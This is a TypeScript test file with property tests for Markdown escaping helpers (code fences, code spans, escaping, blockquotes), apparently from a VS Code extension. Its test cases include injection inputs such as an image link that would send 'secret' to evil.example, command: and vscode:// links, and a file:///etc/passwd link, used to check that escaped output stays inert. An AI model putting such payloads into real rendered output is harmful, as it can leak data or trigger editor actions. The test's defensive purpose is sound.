import { fc, test as property } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { blockquote, escapeMarkdown, fence, inlineCode } from '../../src/selectors/markdown.js';

const breakers = fc
  .array(fc.constantFrom('`', '``', '```', '````', '~~~', '\n', ' ', 'text', '> ', '    ', '\\'), { maxLength: 30 })
  .map((parts) => parts.join(''));

/** CommonMark: a fence of backticks ends at the first line of at least as many, indented by at most three spaces. */
function fenced(markdown: string): { inside: string; after: string } {
  const [opening = '', ...lines] = markdown.split('\n');
  const ticks = /^`*/.exec(opening)?.[0].length ?? 0;
  const end = lines.findIndex((line) => (/^ {0,3}(`+)[ \t]*$/.exec(line)?.[1]?.length ?? 0) >= ticks);
  return { inside: lines.slice(0, end).join('\n'), after: lines.slice(end + 1).join('\n') };
}

/** CommonMark: a code span ends at the next run of exactly as many backticks. */
function spanned(markdown: string): string | undefined {
  const ticks = /^`+/.exec(markdown)?.[0] ?? '';
  const end = [...markdown.slice(ticks.length).matchAll(/`+/g)].find(([run]) => run.length === ticks.length);
  const inside = markdown.slice(ticks.length, ticks.length + (end?.index ?? 0));
  if (end?.index !== markdown.length - 2 * ticks.length) return undefined;
  return /^ .*[^ ].* $/s.test(inside) ? inside.slice(1, -1) : inside;
}

describe('a fence', () => {
  it.each(['```', '````\nx', '```js\ncode\n```', '~~~', '`````````', 'unclosed ```'])(
    '[fault 53] is not ended by %j',
    (text) => {
      expect(fenced(fence(text))).toEqual({ inside: text, after: '' });
    },
  );

  it('[fault 53] has no more than a language after its ticks', () => {
    expect(fence('x', 'diff')).toBe('```diff\nx\n```');
    expect(fence('x', 'c++')).toBe('```c++\nx\n```');
    expect(fence('x', 'js`` \n[x](command:y) ')).toBe('```jsxcommandy\nx\n```');
  });

  it('ends a text that ends its own last line', () => {
    expect(fence('a\n')).toBe('```\na\n```');
    expect(fence('')).toBe('```\n\n```');
  });

  property.prop([breakers])('[fault 53] holds any text whole, and nothing gets behind it', (text) => {
    const { inside, after } = fenced(fence(text));
    expect(inside).toBe(text.replace(/\n$/, ''));
    expect(after).toBe('');
  });

  property.prop([breakers])('[fault 53] of a quotation is of that quotation whole', (text) => {
    const quoted = blockquote(fence(text)).split('\n');
    expect(quoted.every((line) => line.startsWith('>'))).toBe(true);
    expect(fenced(quoted.map((line) => line.replace(/^> ?/, '')).join('\n')).after).toBe('');
  });
});

describe('a code span', () => {
  it.each([
    ['ls -l', '`ls -l`'],
    ['`', '`` ` ``'],
    ['a``b', '```a``b```'],
    [' a', '`  a `'],
    ['', '` `'],
    ['two\r\nlines', '`two lines`'],
  ])('[fault 53] of %j', (text, markdown) => {
    expect(inlineCode(text)).toBe(markdown);
  });

  property.prop([breakers])('[fault 53] holds any text whole, in one line', (text) => {
    fc.pre(text.trim() !== '');
    expect(spanned(inlineCode(text))).toBe(text.replaceAll('\n', ' '));
  });
});

describe('escaped text', () => {
  it.each([
    '[x](command:workbench.action.quit)',
    '[x](vscode://settings)',
    '<a href="command:x">x</a>',
    '![x](https://evil.example/?q=secret)',
    '[x](file:///etc/passwd)',
    '<https://evil.example>',
    'https://evil.example www.evil.example a@evil.example',
    '[x]: https://evil.example',
    '&lt;b&gt; &#x202e;',
    '# heading',
    '- item',
    '1. item',
    '1) item',
    '> quote',
    '***bold*** __x__ ~~y~~',
    '| a | b |',
    '---',
    '===',
    '```',
    '$(trash) $x^2$',
    ':smile:',
    '\\[x](y)',
  ])('[fault 54] %s is only text', (text) => {
    const escaped = escapeMarkdown(text);
    // Each character that Markdown knows stands behind a backslash of ours, so that no construct begins.
    expect(escaped.replace(/\\[!-/:-@[-`{-~]/g, '')).not.toMatch(/[!-/:-@[-`{-~]/);
    expect(escaped.replace(/\\([!-/:-@[-`{-~])/g, '$1')).toBe(text);
  });

  it('[fault 54] begins no code block by its indent', () => {
    expect(escapeMarkdown('    [x](command:y)')).toBe('\u00a0\u00a0\u00a0\u00a0\\[x\\]\\(command\\:y\\)');
    expect(escapeMarkdown('a\n\tb')).toBe('a  \n\u00a0b');
  });

  it('keeps its lines', () => {
    expect(escapeMarkdown('a \r\nb\rc\n\nd')).toBe('a  \nb  \nc  \n  \nd');
  });

  it('leaves letters of every script alone', () => {
    expect(escapeMarkdown('héllo 漢字 “so” – 😀')).toBe('héllo 漢字 “so” – 😀');
  });
});

describe('a quotation', () => {
  it('holds each line of the text, blank ones too', () => {
    expect(blockquote('a\n\n# b\r\nc')).toBe('> a\n>\n> # b\n> c');
  });
});
